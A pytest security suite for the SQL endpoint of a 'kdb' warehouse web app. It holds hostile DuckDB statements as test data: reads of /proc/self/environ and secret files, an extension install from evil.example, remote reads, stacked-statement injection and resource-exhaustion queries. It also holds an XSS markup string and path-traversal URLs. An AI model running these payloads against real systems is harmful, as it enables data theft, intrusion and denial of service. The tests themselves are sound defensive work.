"""Statements and texts that mean harm: refused, stopped within the limits, or shown as the text that they are."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest
from served import Served, served

from kdb.warehouse.lake import Lake
from kdb.warehouse.manifest import run_id
from kdb.warehouse.store import Warehouse

SECRET = "the-secret-of-the-file"
SECONDS = 2

REFUSED = [
    # Files
    "SELECT * FROM read_csv('{secret}')",
    "SELECT * FROM read_text('{secret}')",
    "SELECT * FROM read_blob('{secret}')",
    "SELECT * FROM '{secret}'",
    'SELECT * FROM "{secret}"',
    "FROM glob('/etc/*')",
    "FROM glob('{lake}/**')",
    "SELECT * FROM read_json_auto('{secret}')",
    "SELECT * FROM read_parquet('{lake}/*/*/*/runs/*.parquet')",
    "SELECT * FROM '{lake}/model=tiny/dataset=weather/run=x/runs/all.parquet'",
    "SELECT * FROM parquet_metadata('{lake}/*/*/*/runs/*.parquet')",
    "SELECT * FROM parquet_scan('{lake}/*/*/*/runs/*.parquet')",
    "SELECT * FROM sniff_csv('{secret}')",
    "SELECT * FROM read_csv_auto('/dev/stdin')",
    "SELECT * FROM read_text('/proc/self/environ')",
    "SUMMARIZE '{secret}'",
    "DESCRIBE SELECT * FROM read_csv('{secret}')",
    'WITH "{secret}" AS (SELECT 1) SELECT * FROM (SELECT * FROM "{secret}")',
    "SELECT (SELECT content FROM read_text('{secret}'))",
    "SELECT 1 WHERE EXISTS (FROM read_text('{secret}'))",
    "SELECT * FROM runs JOIN LATERAL (SELECT * FROM read_text('{secret}')) ON true",
    "SELECT * FROM query('SELECT * FROM read_text(''{secret}'')')",
    "SELECT * FROM query_table(['{secret}'])",
    "FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "COPY runs TO '{written}'",
    "COPY (SELECT 1) TO '{written}' (FORMAT parquet)",
    "COPY runs FROM '{secret}'",
    "EXPORT DATABASE '{written}'",
    "IMPORT DATABASE '{written}'",
    "EXPLAIN ANALYZE COPY (SELECT 1) TO '{written}'",
    "EXPLAIN SELECT * FROM runs",
    # Other databases, extensions, the network
    "ATTACH '{written}' AS other",
    "ATTACH ':memory:' AS other",
    "DETACH memory",
    "USE information_schema",
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL json FROM 'http://evil.example'",
    "SELECT * FROM 'https://evil.example/x.parquet'",
    "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "FROM postgres_scan('host=evil.example', 'public', 'x')",
    "FROM sqlite_scan('{secret}', 'x')",
    # Settings, secrets, the catalog
    "SET memory_limit = '100GB'",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "RESET memory_limit",
    "SET VARIABLE kdb_runs = ['x']",
    "PRAGMA enable_profiling",
    "PRAGMA database_list",
    "PRAGMA temp_directory = '{written}'",
    "CREATE SECRET s (TYPE s3)",
    "FROM duckdb_secrets()",
    "SELECT * FROM which_secret('s3://x', 's3')",
    "SELECT current_setting('temp_directory')",
    "SELECT getvariable('kdb_runs')",
    "SELECT getenv('HOME')",
    "FROM duckdb_settings()",
    "FROM duckdb_settings",
    "FROM duckdb_views()",
    "SELECT sql FROM duckdb_views",
    "SUMMARIZE duckdb_views",
    "SELECT view_definition FROM information_schema.views",
    "FROM pg_catalog.pg_views",
    "FROM system.main.duckdb_views",
    "FROM sqlite_master",
    "FROM pragma_storage_info('runs')",
    "WITH duckdb_views AS (SELECT 1) SELECT * FROM main.duckdb_views",
    "SELECT * FROM (WITH duckdb_views AS (SELECT 1) FROM duckdb_views), duckdb_views",
    "FROM duckdb_extensions()",
    "FROM duckdb_temporary_files()",
    "FROM duckdb_logs()",
    "SELECT write_log('x')",
    "FROM enable_logging()",
    "CALL enable_logging()",
    "CALL pragma_version()",
    "FROM test_all_types()",
    "FROM checkpoint()",
    "FROM arrow_scan(1, 2, 3)",
    "FROM pandas_scan(1)",
    "FROM seq_scan('x')",
    # Changes
    "CREATE TABLE t AS SELECT 1",
    "CREATE VIEW v AS SELECT 1",
    "CREATE MACRO f(x) AS x",
    "CREATE TEMP TABLE t (i INT)",
    "CREATE SEQUENCE s",
    "CREATE TYPE mood AS ENUM ('a')",
    "DROP VIEW runs",
    "ALTER VIEW runs RENAME TO x",
    "INSERT INTO runs VALUES (1)",
    "DELETE FROM runs",
    "UPDATE runs SET run = 'x'",
    "TRUNCATE runs",
    "BEGIN",
    "CHECKPOINT",
    "VACUUM",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "SELECT nextval('s')",
    "SELECT 1; DROP VIEW runs",
    "SELECT 1;;SELECT 2",
    "COMMENT ON VIEW runs IS 'x'",
    # No statement at all
    "",
    ";",
    "--",
    "SELECT",
    "\x00",
    "SELECT '",
    "/* " * 1000,
    "(" * 20_000,
]

STOPPED = [
    "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t) SELECT max(i) FROM t",
    "WITH RECURSIVE t(x) AS (SELECT 'x' UNION ALL SELECT x || x FROM t) SELECT count(*) FROM t",
    "SELECT count(*) FROM range(1000000000) a, range(1000000000) b WHERE a.range * b.range = -1",
    "SELECT count(*) FROM prompts a, prompts b, prompts c, prompts d, range(100000000) WHERE a.text < b.text",
    "SELECT list_sum(range(3000000000::BIGINT))",
    "SELECT sum(length(repeat('x', 3000000 + i::INTEGER))) FROM range(2048) t(i)",
    "SELECT length(lpad('x', 2000000000, 'ab'))",
    "SELECT bitstring('1', 2000000000::INTEGER)::VARCHAR",
    "SELECT levenshtein(repeat('a', 90000), repeat('b', 90000))",
    "SELECT array_agg(i) FROM range(2000000000) t(i)",
    "SELECT string_agg(repeat('x', 1000)) FROM range(100000000)",
    "FROM range(100000000000)",
    "SELECT * FROM range(10000000) t(i) ORDER BY hash(i)",
    "SELECT list_transform(range(100000000), x -> list_transform(range(1000), y -> x * y))",
    "SELECT DISTINCT a.range * b.range FROM range(1000000) a, range(1000000) b",
    "SELECT count(*) FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '9999-01-01', INTERVAL 1 MICROSECOND)",
    "SELECT sum(regexp_matches(repeat('a', 9999 + i) || 'b', '^(a?){1000}a{1000}$')::INTEGER) FROM range(1000000) t(i)",
    "SELECT median(a.range + b.range) FROM range(100000) a, range(100000) b",
]


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory, measured: Path) -> Path:
    return measured / "lake"


@pytest.fixture(scope="module")
def server(measured: Path) -> Iterator[Served]:
    with served("--warehouse", measured, "--seconds", str(SECONDS), "--memory", "0.25") as running:
        yield running


@pytest.fixture(scope="module")
def client(server: Served) -> Iterator[httpx.Client]:
    with server.client() as opened:
        yield opened


def assert_healthy(client: httpx.Client, server: Served) -> None:
    assert client.post("/api/sql", json={"sql": "SELECT count(*) AS n FROM runs"}).json() == [{"n": 1}]
    assert server.process.poll() is None


@pytest.mark.parametrize("statement", REFUSED)
def test_hostile_statement_is_refused(
    client: httpx.Client, server: Served, lake: Path, tmp_path: Path, statement: str
) -> None:
    secret, written = tmp_path / "secret.csv", tmp_path / "written"
    secret.write_text(f"a\n{SECRET}\n")
    before = sorted(lake.parent.rglob("*"))
    for key, path in {"secret": secret, "written": written, "lake": lake}.items():
        statement = statement.replace("{" + key + "}", str(path))
    answered = client.post("/api/sql", json={"sql": statement})
    assert answered.status_code == 400, answered.text[:300]
    # What was asked may be repeated; what is at the path may not be told, nor where the lake is.
    assert SECRET not in answered.text[:300]
    assert str(lake) not in answered.text or str(lake) in statement
    assert not written.exists()
    assert sorted(lake.parent.rglob("*")) == before
    page = client.get("/sql", params={"q": statement}) if len(statement) < 10_000 else answered
    assert SECRET not in page.text
    assert_healthy(client, server)


@pytest.mark.parametrize("statement", STOPPED)
def test_endless_statement_is_stopped_within_its_limits(client: httpx.Client, server: Served, statement: str) -> None:
    answered = client.post("/api/sql", json={"sql": statement})
    assert answered.status_code == 400, answered.text[:300]
    assert any(limit in answered.json()["error"] for limit in (" s that a question", "MiB", "rows"))
    assert answered.elapsed.total_seconds() < 4 * SECONDS
    assert_healthy(client, server)


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT 'COPY x TO y; ATTACH' AS read_csv",
        "WITH t AS (SELECT 1 AS duckdb_views) SELECT duckdb_views FROM t",
        "FROM concept_depth()",
        "SELECT * FROM main.runs AS read_csv",
        "SELECT * FROM memory.main.runs",
        "SELECT table_name FROM information_schema.tables",
        "SELECT unnest(tables), run FROM runs",
        "SELECT i FROM generate_series(1, 3) t(i)",
        "DESCRIBE runs",
        "SHOW TABLES",
        "SUMMARIZE runs",
        "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t WHERE i < 9) FROM t",
        "PIVOT probe_scores ON layer IN (0, 1) USING avg(accuracy) GROUP BY model",
    ],
)
def test_harmless_statement_is_answered(client: httpx.Client, statement: str) -> None:
    answered = client.post("/api/sql", json={"sql": statement})
    assert answered.status_code == 200, answered.text[:300]
    assert answered.json()


# Texts -----------------------------------------------------------------------------------------------------------

MARKUP = """<script>alert('kdb')</script><img src=x onerror="alert(1)">{{ 7 * 7 }}&amp;"""


@pytest.fixture(scope="module")
def marked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse whose model, dataset, prompts and tokens are named after markup."""
    folder = tmp_path_factory.mktemp("marked") / "w"
    Warehouse.create(folder)
    lake = Lake(folder)
    kept = {"kept": True, "target_prob": 0.5, "target_rank": 1, "target_token": MARKUP, "text": MARKUP}
    score = {"prompt_id": 0, "layer": 0, "score": 1.0, "rank": 1}
    rows = {
        "models": [{"family": MARKUP, "architecture": MARKUP, "n_layers": 1, "n_heads": 1, "n_params": 1}],
        "datasets": [{"study": "knowledge", "source": MARKUP, "n_prompts": 1}],
        "prompts": [{"prompt_id": 0, "category": MARKUP, "answer": MARKUP, **kept}],
        "layer_scores": [{**score, "component": "attn"}],
        "head_scores": [{**score, "head": 0}],
        "head_position_scores": [{**score, "head": 0, "position": 0, "token": MARKUP, "attention": 1.0}],
        "neuron_scores": [{**score, "component": "ffn", "neuron": 0}],
        "neuron_tokens": [
            {"component": "ffn", "layer": 0, "neuron": 0, "sign": "top", "rank": 1, "token": MARKUP, "logit": 1.0}
        ],
    }
    rows["models"][0] |= {"hidden_size": 1, "intermediate_size": 1}
    names = {
        field: [{k: v for k, v in row.items() if k != "rank" or "neuron" in row} for row in t]
        for field, t in rows.items()
    }
    with lake.stage(run_id({"test": 1}), MARKUP, MARKUP) as staged:
        for table, content in names.items():
            staged.write_rows(table, "part", content)
        staged.commit({"study": "knowledge", "variant": "default", "settings": "{}"})
    return folder


def test_markup_in_names_and_texts_is_shown_as_text(marked: Path) -> None:
    about = {"model": MARKUP}
    pages: dict[str, dict[str, str]] = {
        "/": {},
        "/model": about,
        "/compare": about | {"category": MARKUP},
        "/prompt": about,
        "/prompt ": about | {"dataset": MARKUP, "prompt": "0"},
        "/neuron": about | {"neuron": "f0_0"},
        "/head": about | {"layer": "0", "head": "0"},
        "/queries/prompts": about | {"dataset": MARKUP},
        "/sql": {"q": "SELECT *, '" + MARKUP.replace("'", "''") + "' AS x FROM prompts"},
        "/queries/top-heads": {"k": MARKUP},
        "/model ": {"model": MARKUP + "?"},
        "/nothing/" + MARKUP.replace("/", ""): {},
    }
    with served("--warehouse", marked) as running, running.client(headers={"accept": "text/html"}) as asking:
        for path, params in pages.items():
            page = asking.get(path.strip(), params=params)
            assert page.status_code in (200, 400, 404), page.text
            assert page.headers["content-type"].startswith("text/html")
            assert "<script>alert" not in page.text
            assert "<img src=x" not in page.text
            if page.status_code == 200:
                assert "&lt;script&gt;alert(&#39;kdb&#39;)" in page.text, path
                assert "{{ 7 * 7 }}" in page.text, path
        assert asking.get("/api/tables/prompts").json()[0]["text"] == MARKUP


def test_parents_of_static_files_are_not_served(client: httpx.Client, server: Served) -> None:
    for path in ("/static/..%2fapp.py", "/static/%2e%2e/app.py", "/static//etc/passwd", "/static/", "/static/vendor"):
        response = client.get(path)
        assert response.status_code == 404
        assert "import" not in response.text


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="needs POSIX")
def test_there_are_more_than_sixty_hostile_statements(run_kdb: Callable[..., object]) -> None:
    assert len(set(REFUSED)) + len(set(STOPPED)) >= 60
